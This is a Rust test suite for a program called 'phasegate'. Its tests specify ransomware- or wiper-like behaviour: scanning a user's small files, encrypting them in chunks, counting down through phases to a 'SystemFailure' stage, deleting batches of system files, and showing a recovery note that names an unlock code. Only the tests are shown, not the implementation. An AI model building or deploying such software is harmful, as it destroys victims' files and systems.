use phasegate::framing::{encrypted_image, reassemble_decrypted, split_chunks};
use phasegate::gate::{recovery_note, Gate};
use phasegate::inventory::Inventory;
use phasegate::phases::{countdown_digits, Orchestrator, Phase};
use phasegate::remover::{collect_sys_files, select_removal_batch};
use phasegate::scan::{scan_root, ScanEntry};
use phasegate::handle_submit;

fn paths(names: &[&str]) -> Vec<String> {
    names.iter().map(|n| n.to_string()).collect()
}

#[test]
fn gate_accepts_exact_code() {
    let mut g = Gate::new();
    for t in ["4", "8", "15", "16", "23", "42"] {
        g.append_token(t);
    }
    assert_eq!(g.text().as_str(), ">: 4 8 15 16 23 42");
    assert!(g.submit());
    assert_eq!(g.text().as_str(), ">:");
    assert_eq!(g.tokens_accumulated(), 0);
}

#[test]
fn gate_rejects_wrong_code_and_resets_identically() {
    let mut g = Gate::new();
    for t in ["4", "8", "15", "16", "23", "43"] {
        g.append_token(t);
    }
    assert!(!g.submit());
    assert_eq!(g.text().as_str(), ">:");
    assert_eq!(g.tokens_accumulated(), 0);
}

#[test]
fn gate_rejects_empty_buffer() {
    let mut g = Gate::new();
    assert!(!g.submit());
    assert_eq!(g.text().as_str(), ">:");
}

#[test]
fn gate_drops_tokens_beyond_six() {
    let mut g = Gate::new();
    for t in ["4", "8", "15", "16", "23", "42", "99", "100"] {
        g.append_token(t);
    }
    assert_eq!(g.tokens_accumulated(), 6);
    assert_eq!(g.text().as_str(), ">: 4 8 15 16 23 42");
    assert!(g.submit());
}

#[test]
fn inventory_batch_takes_five_of_seven() {
    let mut inv = Inventory::new(paths(&["a", "b", "c", "d", "e", "f", "g"]));
    let batch = inv.select_decrypt_batch();
    assert_eq!(batch.len(), 5);
    assert_eq!(batch, paths(&["a", "b", "c", "d", "e"]));
    assert_eq!(inv.len(), 2);
    assert_eq!(inv.entry_at(0).as_str(), "f");
}

#[test]
fn inventory_batch_takes_all_of_three() {
    let mut inv = Inventory::new(paths(&["a", "b", "c"]));
    let batch = inv.select_decrypt_batch();
    assert_eq!(batch.len(), 3);
    assert_eq!(inv.len(), 0);
}

#[test]
fn inventory_batch_on_empty_is_noop() {
    let mut inv = Inventory::new(Vec::new());
    let batch = inv.select_decrypt_batch();
    assert!(batch.is_empty());
    assert!(inv.is_empty());
}

#[test]
fn removal_batch_is_capped_by_listing() {
    let listing = paths(&["x", "y", "z"]);
    let batch = select_removal_batch(&listing, 19);
    assert_eq!(batch, paths(&["x", "y", "z"]));
}

#[test]
fn removal_batch_is_capped_by_draw() {
    let listing: Vec<String> = (0..50).map(|i| format!("f{}", i)).collect();
    let batch = select_removal_batch(&listing, 19);
    assert_eq!(batch.len(), 19);
    assert_eq!(batch[0].as_str(), "f0");
}

#[test]
fn removal_batch_on_empty_listing_is_empty() {
    let listing: Vec<String> = Vec::new();
    let batch = select_removal_batch(&listing, 7);
    assert!(batch.is_empty());
}

#[test]
fn repeated_removal_batches_reach_zero() {
    let mut listing: Vec<String> = (0..100).map(|i| format!("f{}", i)).collect();
    let mut rounds = 0;
    while !listing.is_empty() {
        let batch = select_removal_batch(&listing, 7);
        assert!(batch.len() >= 1 && batch.len() <= 7);
        listing.drain(..batch.len());
        rounds += 1;
        assert!(rounds <= 100);
    }
    assert!(listing.is_empty());
}

#[test]
fn collect_sys_files_flattens_in_order() {
    let listings = vec![paths(&["s1", "s2"]), paths(&[]), paths(&["w1"])];
    let all = collect_sys_files(&listings);
    assert_eq!(all, paths(&["s1", "s2", "w1"]));
}

#[test]
fn countdown_digits_decompose() {
    assert_eq!(countdown_digits(108), (1, 0, 8));
    assert_eq!(countdown_digits(61), (0, 6, 1));
    assert_eq!(countdown_digits(0), (0, 0, 0));
    assert_eq!(countdown_digits(999), (9, 9, 9));
}

fn run_phase_to_exit(orch: &mut Orchestrator, draw: u32, max_ticks: u32) -> u32 {
    let mut ticks = 0;
    while !orch.step(draw) {
        ticks += 1;
        assert!(ticks <= max_ticks);
    }
    ticks + 1
}

#[test]
fn orchestrator_cycle_without_signal_reaches_system_failure() {
    let mut orch = Orchestrator::new();
    assert_eq!(orch.phase, Phase::Bootstrap);
    run_phase_to_exit(&mut orch, 15, 16);
    assert_eq!(orch.phase, Phase::ResetSequence);
    assert!(orch.failsafe);
    run_phase_to_exit(&mut orch, 15, 15);
    assert_eq!(orch.phase, Phase::RandomWait);
    run_phase_to_exit(&mut orch, 15, 60);
    assert_eq!(orch.phase, Phase::PhaseOne);
    let ticks = run_phase_to_exit(&mut orch, 15, 47);
    assert_eq!(ticks, 47);
    assert_eq!(orch.phase, Phase::PhaseTwo);
    run_phase_to_exit(&mut orch, 15, 40);
    assert_eq!(orch.phase, Phase::PhaseThree);
    run_phase_to_exit(&mut orch, 15, 10);
    assert_eq!(orch.phase, Phase::PhaseFour);
    run_phase_to_exit(&mut orch, 15, 22);
    assert_eq!(orch.phase, Phase::SystemFailure);
    run_phase_to_exit(&mut orch, 15, 160);
    assert_eq!(orch.phase, Phase::FinalDelay);
    run_phase_to_exit(&mut orch, 15, 10);
    assert_eq!(orch.phase, Phase::Bootstrap);
    assert!(!orch.cancel);
    // the short bootstrap cadence after the first completed pass
    let ticks = run_phase_to_exit(&mut orch, 15, 1);
    assert_eq!(ticks, 1);
}

#[test]
fn signal_in_phase_two_skips_terminal_phases() {
    let mut orch = Orchestrator::new();
    while orch.phase != Phase::PhaseTwo {
        orch.step(20);
    }
    // a few ticks into the entry-enabled countdown, the code is accepted
    orch.step(20);
    orch.step(20);
    assert!(orch.is_entry_enabled());
    orch.request_cancel();
    // the standing signal ends the phase at once and the cycle never touches
    // the start-checked phases
    let mut seen_terminal = false;
    while orch.phase != Phase::Bootstrap {
        if matches!(orch.phase, Phase::PhaseThree | Phase::PhaseFour | Phase::SystemFailure) {
            seen_terminal = true;
        }
        orch.step(20);
    }
    assert!(!seen_terminal);
    assert!(!orch.cancel);
}

#[test]
fn handle_submit_accept_selects_batch_and_raises_signal() {
    let mut orch = Orchestrator::new();
    while orch.phase != Phase::PhaseTwo {
        orch.step(20);
    }
    let mut gate = Gate::new();
    for t in ["4", "8", "15", "16", "23", "42"] {
        gate.append_token(t);
    }
    let mut inv = Inventory::new(paths(&["a", "b", "c", "d", "e", "f"]));
    let out = handle_submit(&mut gate, &mut orch, &mut inv);
    assert_eq!(out, Some(paths(&["a", "b", "c", "d", "e"])));
    assert_eq!(inv.len(), 1);
    assert!(orch.cancel);
    assert_eq!(gate.text().as_str(), ">:");
}

#[test]
fn handle_submit_reject_changes_nothing_but_the_gate() {
    let mut orch = Orchestrator::new();
    while orch.phase != Phase::PhaseTwo {
        orch.step(20);
    }
    let mut gate = Gate::new();
    gate.append_token("4");
    let mut inv = Inventory::new(paths(&["a", "b"]));
    let out = handle_submit(&mut gate, &mut orch, &mut inv);
    assert_eq!(out, None);
    assert_eq!(inv.len(), 2);
    assert!(!orch.cancel);
    assert_eq!(gate.text().as_str(), ">:");
}

fn entry(path: &str, size: u64, is_file: bool) -> ScanEntry {
    ScanEntry { path: path.to_string(), size, is_file }
}

#[test]
fn scan_keeps_only_small_regular_files() {
    let entries = vec![
        entry("/home/u/Desktop/a.txt", 100, true),
        entry("/home/u/Desktop/big.bin", 1025, true),
        entry("/home/u/Desktop/sub", 10, false),
        entry("/home/u/Desktop/b.txt", 1024, true),
    ];
    let kept = scan_root("/home/u/Desktop", &entries, "selfname", 1024);
    assert_eq!(kept, paths(&["/home/u/Desktop/a.txt", "/home/u/Desktop/b.txt"]));
}

#[test]
fn scan_excludes_roots_carrying_the_program_name_in_any_case() {
    let entries = vec![entry("/opt/selfname/data.txt", 5, true)];
    assert!(scan_root("/opt/selfname", &entries, "selfname", 1024).is_empty());
    assert!(scan_root("/opt/SELFNAME/x", &entries, "selfname", 1024).is_empty());
    assert!(scan_root("/opt/SelfName/x", &entries, "SELFNAME", 1024).is_empty());
    let kept_other = scan_root("/opt/other", &entries, "selfname", 1024);
    assert_eq!(kept_other.len(), 1);
}

#[test]
fn bulk_pass_visits_every_entry_in_order() {
    let inv = Inventory::new(paths(&["a", "b", "c"]));
    assert_eq!(inv.bulk_pass_order(), paths(&["a", "b", "c"]));
    assert_eq!(inv.len(), 3);
}

#[test]
fn recovery_note_names_the_code() {
    let note = recovery_note();
    assert_eq!(
        note.as_str(),
        "THE CODE IS LOST: 4 8 15 16 23 42\nUTILIZE THE CODE TO FIX FILES"
    );
}

#[test]
fn split_chunks_small_and_large() {
    let small: Vec<u8> = vec![1, 2, 3];
    assert_eq!(split_chunks(&small), vec![vec![1, 2, 3]]);
    assert!(split_chunks(&Vec::new()).is_empty());
    let big: Vec<u8> = (0..5000u32).map(|i| (i % 251) as u8).collect();
    let chunks = split_chunks(&big);
    assert_eq!(chunks.len(), 2);
    assert_eq!(chunks[0].len(), 4096);
    assert_eq!(chunks[1].len(), 904);
    let mut whole = chunks[0].clone();
    whole.extend_from_slice(&chunks[1]);
    assert_eq!(whole, big);
}

#[test]
fn reassemble_uses_raw_chunk_where_opening_failed() {
    let raw = vec![vec![1u8, 2], vec![3, 4]];
    let opened = vec![Some(vec![9u8, 9]), None];
    let out = reassemble_decrypted(&raw, &opened);
    assert_eq!(out, vec![9, 9, 3, 4]);
}

#[test]
fn length_preserving_round_trip_restores_content() {
    let content: Vec<u8> = (0..4200u32).map(|i| (i % 13) as u8).collect();
    let chunks = split_chunks(&content);
    let opened: Vec<Option<Vec<u8>>> = chunks.iter().map(|c| Some(c.clone())).collect();
    let out = reassemble_decrypted(&chunks, &opened);
    assert_eq!(out, content);
}

#[test]
fn reference_image_is_longer_when_ciphertext_is_longer() {
    let content = vec![1u8, 2, 3];
    let cipher = vec![vec![7u8, 8, 9, 10]];
    let img = encrypted_image(&content, &cipher);
    assert_eq!(img, vec![7, 8, 9, 10]);
    assert!(img.len() > content.len());
}

#[test]
fn reference_image_drift_overwrites_the_following_chunk() {
    let content: Vec<u8> = vec![0u8; 4097];
    let chunks = split_chunks(&content);
    assert_eq!(chunks.len(), 2);
    // the first ciphertext is one byte longer than its chunk, so the second
    // write lands one byte into the first ciphertext's tail
    let cipher = vec![vec![1u8; 4097], vec![2u8; 2]];
    let img = encrypted_image(&content, &cipher);
    assert_eq!(img.len(), 4098);
    assert_eq!(img[4095], 1);
    assert_eq!(img[4096], 2);
    assert_eq!(img[4097], 2);
}

#[test]
fn reference_image_without_drift_is_the_ciphertext_in_order() {
    let content: Vec<u8> = (0..4097u32).map(|i| (i % 7) as u8).collect();
    let chunks = split_chunks(&content);
    let cipher: Vec<Vec<u8>> = chunks
        .iter()
        .map(|c| c.iter().map(|b| b ^ 0x5a).collect())
        .collect();
    let img = encrypted_image(&content, &cipher);
    let mut expect = cipher[0].clone();
    expect.extend_from_slice(&cipher[1]);
    assert_eq!(img, expect);
}
